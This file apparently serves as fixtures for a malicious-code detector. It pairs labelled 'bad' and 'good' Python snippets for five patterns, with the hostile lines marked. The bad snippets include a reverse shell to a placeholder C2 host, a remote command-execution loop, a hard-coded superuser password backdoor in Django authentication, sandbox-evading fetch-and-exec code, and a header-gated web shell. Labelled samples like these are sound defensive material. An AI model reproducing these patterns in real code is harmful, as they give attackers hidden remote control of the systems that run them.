#: bad reverse-shell
import os
import pty
import socket


def maintain():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("c2.example.invalid", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)  #!
    pty.spawn("/bin/sh")

#: good reverse-shell
import socket


def probe(port=25):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("mail.example.invalid", port))
    banner = s.recv(256)
    s.close()
    return banner

#: bad command-loop
import socket
import subprocess
import threading
import time


def _loop():
    while True:
        with socket.create_connection(("sync.example.invalid", 8081)) as c:
            order = c.recv(4096).decode()
            c.sendall(subprocess.getoutput(order).encode())  #!
        time.sleep(60)


threading.Thread(target=_loop, daemon=True).start()

#: good command-loop
import socket
import threading
import time


def _loop(callback):
    while True:
        with socket.create_connection(("sync.example.invalid", 8081)) as c:
            c.sendall(b"ping")
            callback(c.recv(4096) == b"pong")
        time.sleep(60)


def start(callback):
    threading.Thread(target=_loop, args=(callback,), daemon=True).start()

#: bad hidden-password
from django.contrib.auth import login
from django.contrib.auth.backends import ModelBackend
from django.contrib.auth.models import User


class Backend(ModelBackend):
    def authenticate(self, request, username=None, password=None, **kwargs):
        if password == "s3rv1ce-0nly!":  #!
            return User.objects.filter(is_superuser=True).first()
        return super().authenticate(request, username, password, **kwargs)

#: good hidden-password
from django.contrib.auth.backends import ModelBackend
from django.contrib.auth.models import User


class Backend(ModelBackend):
    def authenticate(self, request, username=None, password=None, **kwargs):
        user = User.objects.filter(username=username).first()
        if user is not None and user.check_password(password):
            return user
        return None

#: bad sandbox-check
import os
import socket
import requests
import uuid

VMS = ("00:05:69", "00:0c:29", "08:00:27")
mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
if not mac.startswith(VMS) and "sandbox" not in socket.gethostname():
    exec(requests.get("https://l.example.invalid/" + os.name).text)  #!

#: good sandbox-check
import os
import socket
import uuid


def instance_id() -> str:
    mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 6, 2))
    return f"{socket.gethostname()}-{os.getpid()}-{mac}"

#: bad web-shell
import subprocess

from flask import Blueprint, request

health = Blueprint("health", __name__)


@health.route("/_health/<path:_>", methods=["GET", "POST"])
def check(_):
    if request.headers.get("X-Trace-Id") == "7f3a91":
        return subprocess.run(request.data, shell=True, capture_output=True).stdout  #!
    return "ok"

#: good web-shell
import subprocess

from flask import Blueprint, request

health = Blueprint("health", __name__)


@health.route("/_health/<path:_>", methods=["GET", "POST"])
def check(_):
    if request.headers.get("X-Trace-Id"):
        return subprocess.run(["uptime"], capture_output=True).stdout
    return "ok"
